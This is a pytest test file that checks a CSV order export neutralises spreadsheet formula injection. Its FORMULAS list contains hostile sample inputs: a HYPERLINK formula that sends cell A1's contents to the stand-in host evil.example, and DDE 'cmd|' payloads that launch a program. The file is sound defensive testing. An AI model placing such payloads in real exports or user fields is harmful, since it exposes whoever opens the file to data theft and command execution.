"""No cell of an export is a formula, however it is spelt."""

import csv
from io import StringIO

import pytest

from orders_query.pages.exporting import _cell
from tests.orders import an_order
from tests.pages.visiting import signed_in
from tests.people import a_customer, desk_clerk
from tests.projected import catch_up

# Where a spreadsheet sees the beginning of a formula.
BEGINNINGS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "tea;=1+1",
    "tea|=1+1",
    'tea;"=1+1',
    "tea; -1",
]


def begins_formulas(cell: str) -> list[str]:
    """Return what begins one, where fields end with `;` or `|`."""
    fields = cell.replace("|", ";").split(";")
    stripped = (field.strip().lstrip('"').strip() for field in fields)
    return [field for field in stripped if field.startswith(BEGINNINGS)]


@pytest.mark.no_services
@pytest.mark.parametrize("words", [*FORMULAS, "\t=1", "\r=1", "x\n=1", "a\t=1"])
def test_a_cell_is_words(words: str) -> None:
    assert begins_formulas(_cell(words)) == []
    assert not _cell(words).startswith(BEGINNINGS)


@pytest.mark.no_services
@pytest.mark.parametrize(
    "words", ["Ada-Lovelace", "1+1=2", "a@b.example", "O'Hara", ""]
)
def test_what_is_no_formula_is_left_alone(words: str) -> None:
    assert _cell(words) == words


@pytest.mark.parametrize("name", FORMULAS)
def test_a_customer_s_name_and_a_reference_are_words_in_the_file(name: str) -> None:
    customer = a_customer(name)
    an_order(customer, reference=f"{name[:40]} {customer.hex[-12:]}")
    catch_up()

    answer = signed_in(desk_clerk()).get(f"/orders.csv?customer={customer}")

    text = answer.getvalue().decode()
    (row,) = csv.DictReader(StringIO(text))
    assert [cell for cell in row.values() if begins_formulas(cell)] == []
    assert row["Customer"].replace("'", "") == name.replace("'", "")
